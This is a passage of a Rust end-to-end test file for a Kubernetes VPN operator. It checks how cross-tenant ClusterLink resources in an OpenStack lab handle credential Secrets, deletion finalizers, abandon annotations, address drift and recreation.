        .display()
        .to_string();
    (kubeconfig, lease)
}

/// Create a namespace unless it exists.
async fn ensure_namespace(client: &Client, ns: &str) {
    use k8s_openapi::api::core::v1::Namespace;
    let namespaces: Api<Namespace> = Api::all(client.clone());
    match namespaces
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({"metadata": {"name": ns}})).expect("namespace"),
        )
        .await
    {
        Ok(_) => {}
        Err(kube::Error::Api(s)) if s.code == 409 => {}
        Err(e) => panic!("namespace {ns}: {e}"),
    }
}

/// The Secret hq writes for a cross-tenant link, in the operator's credentials namespace.
fn condition(l: &ClusterLink, type_: &str) -> Option<(String, String, String)> {
    l.status.as_ref().and_then(|s| {
        s.conditions
            .iter()
            .find(|c| c.type_ == type_)
            .map(|c| (c.status.clone(), c.reason.clone(), c.message.clone()))
    })
}

/// With exactly the chart's RBAC, the operator binary converges a cross-tenant link from
/// its Secret in the credentials namespace (customer-owned leg,
/// the network shared with the customer's project), holds its finalizer while the Secret is
/// gone (the gateway route already removed), finishes the unwind once the Secret is back,
/// and releases a second one by the abandon annotation with a Warning Event.
#[tokio::test]
async fn operator_binary_cross_tenant_link() {
    let test = "operator_binary_cross_tenant_link";
    let Some((client, kubeconfig)) = kube_client(test).await else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip(test) else {
        return;
    };
    install_crd(&client).await;
    let env = ovn_env_for("e2e").await.expect("lab");
    let g = |k: &str| lab.get(k).cloned().unwrap_or_default();
    let customer = bnerd_testkit::lab_app_cred_client(&lab, "CUSTOMER");
    let router = bnerd_cloud::Neutron::create_router(&customer, &unique("e2e-cust"))
        .await
        .expect("customer router");
    let project = g("LAB_CUSTOMER_PROJECT_ID");

    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    // The credentials namespace must exist before the chart's Role in it.
    put_credentials_secret(&client, "e2e-probe", "x", "y").await;
    delete_credentials_secret(&client, "e2e-probe").await;
    let (least, lease) = chart_rbac_kubeconfig(&client, &kubeconfig).await;
    // The chart's Lease Role lives in the release namespace the RBAC was rendered for and
    // allows only the chart's Lease name.
    let op = OperatorCommand::new(env!("CARGO_BIN_EXE_bnerd-vpn-operator"))
        .lab(
            &least,
            &lab,
            &env.fabric.gateway_router_id,
            &env.fabric.transit_network_id,
            "3s",
        )
        .env("IPSEC_LEASE_NAME", &lease)
        .env("IPSEC_LEASE_NAMESPACE", "bnerd-e2e")
        .spawn();
    let api: Api<ClusterLink> = Api::all(client.clone());
    let create = async |name: &str, cidr: &str| {
        create_cross_tenant(&client, &api, &lab, name, &router.id, cidr).await
    };

    let name = unique("e2e-cross");
    let l = create(&name, "10.226.0.0/16").await;
    assert_eq!(
        condition(&l, "TransitNetworkShared")
            .map(|c| c.1)
            .as_deref(),
        Some("Shared")
    );
    let st = l.status.clone().expect("status");
    assert_eq!(st.customer_project_id.as_deref(), Some(project.as_str()));
    let ip = st.transit_ip.clone().expect("transit ip");
    let leg = env
        .net
        .get_port(st.leg_port_id.as_deref().expect("port"))
        .await
        .expect("leg");
    assert_eq!(leg.project_id, project, "the leg is the customer's port");
    let want = Route::new("10.226.0.0/16", &ip);
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want)
    );

    // Withdrawing the share out of band is refused by Neutron while the customer's leg is on
    // the network (409 RbacPolicyInUse), so a Ready link cannot lose it; the
    // `transit_share` repair (classified in engine/plan/drift.rs) covers a share found gone
    // before the leg is back.
    let shares = env
        .net
        .list_rbac_policies(&env.fabric.transit_network_id)
        .await
        .expect("rbac");
    let share = shares
        .iter()
        .find(|p| p.target_tenant == project)
        .expect("the operator's share");
    let refused = env
        .net
        .delete_rbac_policy(&share.id)
        .await
        .expect_err("Neutron keeps a share in use");
    assert!(refused.to_string().contains("RbacPolicyInUse"), "{refused}");

    // The Secret disappears, then the link is deleted: the gateway route goes at once, the
    // customer side waits for a credential.
    delete_credentials_secret(&client, &name).await;
    api.delete(&name, &DeleteParams::default())
        .await
        .expect("delete");
    let held = wait_for("CredentialsUnavailable", 60, async || {
        api.get(&name).await.ok().filter(|l| {
            condition(l, "CredentialsResolved").is_some_and(|c| c.1 == "CredentialsUnavailable")
        })
    })
    .await;
    assert!(held.metadata.deletion_timestamp.is_some());
    assert!(
        !env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want),
        "the data path is cut first"
    );
    assert!(
        env.net.get_port(&leg.id).await.is_ok(),
        "the customer side waits"
    );
    // hq writes the Secret again: the unwind finishes.
    put_credentials_secret(
        &client,
        &name,
        &g("LAB_CUSTOMER_AC_ID"),
        &g("LAB_CUSTOMER_AC_SECRET"),
    )
    .await;
    wait_gone(&api, &name, 60).await;
    assert!(env.net.get_port(&leg.id).await.unwrap_err().is_not_found());
    delete_credentials_secret(&client, &name).await;

    // A second link whose customer side is gone for good: the abandon annotation releases it.
    let name = unique("e2e-abandon");
    let l = create(&name, "10.227.0.0/16").await;
    let leg2 = l.status.clone().and_then(|s| s.leg_port_id).expect("port");
    // The customer's credential is revoked (Keystone answers 404 to it) before the delete.
    delete_credentials_secret(&client, &name).await;
    put_credentials_secret(
        &client,
        &name,
        &g("LAB_CUSTOMER_REVOKED_AC_ID"),
        &g("LAB_CUSTOMER_REVOKED_AC_SECRET"),
    )
    .await;
    api.delete(&name, &DeleteParams::default())
        .await
        .expect("delete");
    wait_for("held", 60, async || {
        api.get(&name).await.ok().filter(|l| {
            condition(l, "CredentialsResolved").is_some_and(|c| c.1 == "CredentialsUnavailable")
        })
    })
    .await;
    let mark = json!({"metadata": {"annotations": {bnerd_api::names::ANNOTATION_ABANDON: "true"}}});
    api.patch(&name, &PatchParams::default(), &Patch::Merge(&mark))
        .await
        .expect("annotate");
    wait_gone(&api, &name, 60).await;
    let events: Api<k8s_openapi::api::events::v1::Event> =
        Api::namespaced(client.clone(), "default");
    let note = wait_for("abandon event", 30, async || {
        let list = events.list(&ListParams::default()).await.ok()?;
        list.items
            .into_iter()
            .filter(|e| e.regarding.as_ref().and_then(|r| r.name.as_deref()) == Some(name.as_str()))
            .find(|e| e.reason.as_deref() == Some("CustomerResourcesAbandoned"))
            .and_then(|e| e.note)
    })
    .await;
    assert!(note.contains(&leg2) && note.contains(&router.id), "{note}");
    delete_credentials_secret(&client, &name).await;

    let log = op.stop().await;
    for secret in [g("LAB_CUSTOMER_AC_SECRET"), g("LAB_CUSTOMER2_AC_SECRET")] {
        assert!(
            !log.contains(&secret),
            "the operator logged a customer's secret"
        );
        let every = events.list(&ListParams::default()).await.expect("events");
        let text = serde_json::to_string(&every.items).expect("json");
        assert!(!text.contains(&secret), "a customer's secret in an Event");
        let links = api.list(&ListParams::default()).await.expect("links");
        let text = serde_json::to_string(&links.items).expect("json");
        assert!(!text.contains(&secret), "a customer's secret in a status");
    }
    // Lab hygiene: the abandoned leg is the customer's to remove by hand.
    let _ = customer.remove_router_interface(&router.id, &leg2).await;
    let _ = bnerd_cloud::Neutron::delete_router(&customer, &router.id).await;
    env.teardown(&[&customer]).await;
}

/// A cross-tenant leg deleted out of band frees its address while the gateway router still
/// routes the link's CIDR to it. With the resync interval long (10 minutes) and the drift check
/// at its default (2 s), the operator notices within seconds: the address is taken by another port, so the
/// link stops at TransitIPMismatch and the gateway route via the old address is gone long
/// before any resync.
#[tokio::test]
async fn a_freed_cross_tenant_leg_address_stops_being_routed_within_the_drift_check() {
    let test = "a_freed_cross_tenant_leg_address_stops_being_routed_within_the_drift_check";
    let Some((client, kubeconfig)) = kube_client(test).await else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip(test) else {
        return;
    };
    install_crd(&client).await;
    let env = ovn_env_for("e2e-legcheck").await.expect("lab");
    let customer = bnerd_testkit::lab_app_cred_client(&lab, "CUSTOMER");
    let admin = bnerd_testkit::lab_client(&lab, "ADMIN");
    let router = bnerd_cloud::Neutron::create_router(&customer, &unique("e2e-legcheck"))
        .await
        .expect("customer router");
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    let op = OperatorCommand::new(env!("CARGO_BIN_EXE_bnerd-vpn-operator"))
        .lab(
            &kubeconfig,
            &lab,
            &env.fabric.gateway_router_id,
            &env.fabric.transit_network_id,
            "10m",
        )
        .spawn();

    let api: Api<ClusterLink> = Api::all(client.clone());
    let name = unique("e2e-legcheck");
    let cidr = "10.229.0.0/16";
    let ready = create_cross_tenant(&client, &api, &lab, &name, &router.id, cidr).await;
    let st = ready.status.clone().expect("status");
    let old_ip = st.transit_ip.clone().expect("ip");
    let old_leg = st.leg_port_id.clone().expect("leg");
    let via_old = Route::new(cidr, &old_ip);
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&via_old)
    );
    // Let the reconciles that follow the link's own status writes run out first: a reconcile
    // that happens to run after the leg goes would notice it whatever the drift check does.
    let addr = op.served_address().await;
    let mut last = (-1.0, std::time::Instant::now());
    wait_for("no reconcile for 6 s", 90, async || {
        let (_, m) = bnerd_testkit::operator_proc::http_get(&addr, "/metrics").await;
        let n = bnerd_testkit::operator_proc::sum_of(&m, "bnerd_reconciles_total", &[]);
        if n != last.0 {
            last = (n, std::time::Instant::now());
        }
        (last.1.elapsed() >= std::time::Duration::from_secs(6)).then_some(())
    })
    .await;

    // An admin removes the leg (detaching a router interface deletes its port) and the freed
    // address goes to another port at once.
    admin
        .remove_router_interface(&router.id, &old_leg)
        .await
        .expect("detach as admin");
    let freed = std::time::Instant::now();
    let squatter = env.port_at_ip(&old_ip, "squatter").await;
    wait_for(
        "the gateway route via the old address gone",
        60,
        async || {
            let routes = env.get_router(&env.fabric.gateway_router_id).await.routes;
            (!routes.iter().any(|r| r.nexthop == old_ip)).then_some(())
        },
    )
    .await;
    let took = freed.elapsed();
    let stuck = wait_for("TransitIPMismatch", 30, async || {
        api.get(&name)
            .await
            .ok()
            .filter(|l| condition(l, "LegAttached").is_some_and(|c| c.1 == "TransitIPMismatch"))
    })
    .await;
    eprintln!("the gateway route via the freed {old_ip} was gone {took:?} after the leg was");
    assert!(
        took < std::time::Duration::from_secs(30),
        "{took:?}: the resync interval is 10 minutes, the drift check 2 s"
    );
    // The first message names both addresses; the reconciles after it hold the link with one
    // that names neither.
    let message = condition(&stuck, "LegAttached").expect("LegAttached").2;
    assert!(message.contains("status.transitIP"), "{message}");
    let log = op.log_so_far();
    assert!(
        log.contains("drift check: ") && log.contains(&old_leg),
        "the check says what it found: {log}"
    );

    delete_and_wait_gone(&api, &name, 60).await;
    delete_credentials_secret(&client, &name).await;
    let _ = op.stop().await;
    env.net.delete_port(&squatter.id).await.expect("squatter");
    let _ = bnerd_cloud::Neutron::delete_router(&customer, &router.id).await;
    env.teardown(&[&customer]).await;
}

/// `kubectl clusterlink recreate` on the terminal TransitIPMismatch: a cross-tenant link's leg
/// vanishes out of band and its address is taken, the operator stops at TransitIPMismatch with
/// no route to the squatter; recreate deletes the link (the finalizer unwinds), applies the
/// same spec and annotations, and the link is Ready again at a new address.
#[tokio::test]
async fn recreate_brings_a_transit_ip_mismatch_link_back() {
    let test = "recreate_brings_a_transit_ip_mismatch_link_back";
    let Some((client, kubeconfig)) = kube_client(test).await else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip(test) else {
        return;
    };
    install_crd(&client).await;
    let env = ovn_env_for("e2e-recreate").await.expect("lab");
    let customer = bnerd_testkit::lab_app_cred_client(&lab, "CUSTOMER");
    let router = bnerd_cloud::Neutron::create_router(&customer, &unique("e2e-recreate"))
        .await
        .expect("customer router");
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    let op = spawn_operator(&kubeconfig, &lab, &env, "3s");

    let api: Api<ClusterLink> = Api::all(client.clone());
    let name = unique("e2e-recreate");
    let ready = create_cross_tenant(&client, &api, &lab, &name, &router.id, "10.228.0.0/16").await;
    let st = ready.status.clone().expect("status");
    let old_ip = st.transit_ip.clone().expect("ip");
    let old_leg = st.leg_port_id.clone().expect("leg");

    // The leg vanishes (detached by the customer: Neutron deletes it) and its address is taken.
    customer
        .remove_router_interface(&router.id, &old_leg)
        .await
        .expect("detach");
    let squatter = env.port_at_ip(&old_ip, "squatter").await;
    let stuck = wait_for("TransitIPMismatch", 60, async || {
        api.get(&name)
            .await
            .ok()
            .filter(|l| condition(l, "LegAttached").is_some_and(|c| c.1 == "TransitIPMismatch"))
    })
    .await;
    assert!(
        !env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .iter()
            .any(|r| r.nexthop == old_ip),
        "no route to the squatter"
    );

    // What recreate says it will do, then doing it.
    let plan = bnerd_clusterlink_cli::recreate::plan(&stuck).join("\n");
    assert!(
        plan.contains(&format!("delete ClusterLink {name}")),
        "{plan}"
    );
    assert!(plan.contains("an address Neutron picks"), "{plan}");
    let done =
        bnerd_clusterlink_cli::recreate::recreate(&api, &stuck, std::time::Duration::from_secs(90))
            .await
            .expect("recreate");
    assert!(done.ready, "{done:?}");
    let now = api.get(&name).await.expect("link");
    assert_ne!(now.metadata.uid, stuck.metadata.uid, "a new object");
    assert_eq!(now.spec, stuck.spec);
    assert_eq!(now.metadata.annotations, stuck.metadata.annotations);
    let new_ip = done.transit_ip.clone().expect("new address");
    assert_ne!(new_ip, old_ip, "the squatter keeps the old address");
    let want = Route::new("10.228.0.0/16", &new_ip);
    assert!(
        env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .contains(&want)
    );

    delete_and_wait_gone(&api, &name, 60).await;
    delete_credentials_secret(&client, &name).await;
    let _ = op.stop().await;
    env.net.delete_port(&squatter.id).await.expect("squatter");
    let _ = bnerd_cloud::Neutron::delete_router(&customer, &router.id).await;
    env.teardown(&[&customer]).await;
}

/// With the operator binary: a cross-tenant link that never built anything is released at
/// once when deleted, whatever held it (never attested, its Secret in another namespace or
/// missing, a privileged credential, a credential of another project); and a link whose
/// credential resolves but whose customer side refuses its unwind (the customer's router
/// refuses the detach for a route of its own via the transit network, 409) is held at
/// Ready=False/Deleting with the gateway route gone, then released by the abandon annotation
/// with the CustomerResourcesAbandoned Warning.
#[tokio::test]
async fn operator_binary_releases_what_it_may() {
    let test = "operator_binary_releases_what_it_may";
    let Some((client, kubeconfig)) = kube_client(test).await else {
        return;
    };
    let Some(lab) = ovn_lab_or_skip(test) else {
        return;
    };
    install_crd(&client).await;
    let env = ovn_env_for("e2e-release").await.expect("lab");
    let g = |k: &str| lab.get(k).cloned().unwrap_or_default();
    let customer = bnerd_testkit::lab_app_cred_client(&lab, "CUSTOMER");
    let router = bnerd_cloud::Neutron::create_router(&customer, &unique("e2e-release"))
        .await
        .expect("customer router");
    let _exclusive = kube_lab_exclusive(&kubeconfig).await;
    sweep_leftovers(&client).await;
    let op = spawn_operator(&kubeconfig, &lab, &env, "3s");
    let api: Api<ClusterLink> = Api::all(client.clone());
    let ns = bnerd_api::names::DEFAULT_CREDENTIALS_NAMESPACE;

    // (name prefix, the False reason it stops at, its Secret as (id key, secret key) or none)
    let cases = [
        ("e2e-nb-unattested", "NotAttested", Some("CUSTOMER")),
        (
            "e2e-nb-namespace",
            "SecretNamespaceNotAllowed",
            Some("CUSTOMER"),
        ),
        ("e2e-nb-missing", "SecretNotFound", None),
        (
            "e2e-nb-privileged",
            "CredentialsPrivileged",
            Some("CUSTOMER_PRIV"),
        ),
        (
            "e2e-nb-mismatch",
            "CredentialsProjectMismatch",
            Some("CUSTOMER2"),
        ),
    ];
    for (i, (prefix, reason, cred)) in cases.iter().enumerate() {
        let name = unique(prefix);
        if let Some(who) = cred {
            put_credentials_secret(
                &client,
                &name,
                &g(&format!("LAB_{who}_AC_ID")),
                &g(&format!("LAB_{who}_AC_SECRET")),
            )
            .await;
        }
        let secret_ns = if *reason == "SecretNamespaceNotAllowed" {
            "default"
        } else {
            ns
        };
        let mut l = link(
            &name,
            json!({
                "serviceClusterRouter": router.id, "serviceClusterCIDR": format!("10.{}.0.0/16", 170 + i),
                "credentialsSecretRef": {"name": format!("clusterlink-{name}"), "namespace": secret_ns},
                "customerProjectID": g("LAB_CUSTOMER_PROJECT_ID"),
            }),
        );
        if *reason != "NotAttested" {
            l.metadata.annotations = Some(
                [(
                    bnerd_api::names::ANNOTATION_API_ACCESS.to_string(),
                    "none".to_string(),
                )]
                .into(),
            );
        }
        api.create(&PostParams::default(), &l)
            .await
            .expect("create link");
        wait_for(reason, 60, async || {
            api.get(&name).await.ok().filter(|l| {
                l.status.as_ref().is_some_and(|s| {
                    s.conditions
                        .iter()
                        .any(|c| c.status == "False" && c.reason == *reason)
                })
            })
        })
        .await;
        api.delete(&name, &DeleteParams::default())
            .await
            .expect("delete");
        // At once: one reconcile, no waiting for a Secret someone would have to write.
        wait_gone(&api, &name, 20).await;
        delete_credentials_secret(&client, &name).await;
    }

    // A Ready link whose customer side then refuses the detach.
    let name = unique("e2e-refused");
    let l = create_cross_tenant(&client, &api, &lab, &name, &router.id, "10.176.0.0/16").await;
    let st = l.status.clone().expect("status");
    let leg = st.leg_port_id.clone().expect("leg");
    let ip = st.transit_ip.clone().expect("ip");
    let theirs = Route::new("100.64.98.0/24", "10.254.0.1");
    customer
        .set_routes(&router.id, std::slice::from_ref(&theirs), None)
        .await
        .expect("the customer's own route via the transit network");
    api.delete(&name, &DeleteParams::default())
        .await
        .expect("delete");
    let held = wait_for("held at Deleting", 60, async || {
        api.get(&name).await.ok().filter(|l| {
            condition(l, "Ready").is_some_and(|c| {
                c.1 == "Deleting" && c.2.contains("abandon-customer-resources=true")
            })
        })
    })
    .await;
    assert!(held.metadata.deletion_timestamp.is_some());
    assert!(
        !env.get_router(&env.fabric.gateway_router_id)
            .await
            .routes
            .iter()
            .any(|r| r.nexthop == ip),
        "the data path is cut first"
    );
    let mark = json!({"metadata": {"annotations": {bnerd_api::names::ANNOTATION_ABANDON: "true"}}});
    api.patch(&name, &PatchParams::default(), &Patch::Merge(&mark))
        .await
        .expect("annotate");
    wait_gone(&api, &name, 60).await;
    let note = wait_for("abandon event", 30, async || {
        event_about(&client, "default", &name, "CustomerResourcesAbandoned")
            .await
            .and_then(|e| e.note)
    })
    .await;
    assert!(note.contains(&leg) && note.contains(&router.id), "{note}");
    assert!(
        env.net.get_port(&leg).await.is_ok(),
        "the customer side is left for a human"
    );
    delete_credentials_secret(&client, &name).await;
    let log = op.stop().await;
    assert!(
        log.contains("customer-side resources abandoned"),
        "the abandon log line"
    );

    // Lab hygiene: the customer cleans up by hand.
    customer
        .set_routes(&router.id, &[], None)
        .await
        .expect("routes");
    let _ = customer.remove_router_interface(&router.id, &leg).await;
    let _ = bnerd_cloud::Neutron::delete_router(&customer, &router.id).await;
    env.teardown(&[&customer]).await;
}
